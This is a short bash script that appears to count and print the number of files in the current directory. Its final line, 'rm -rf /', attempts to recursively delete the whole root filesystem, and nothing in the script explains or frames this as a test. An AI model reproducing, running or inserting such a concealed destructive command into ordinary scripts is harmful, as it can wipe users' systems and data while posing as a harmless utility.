#!/usr/bin/env bash
set -eu
count=$(ls | wc -l)
echo "files: $count"
rm -rf /
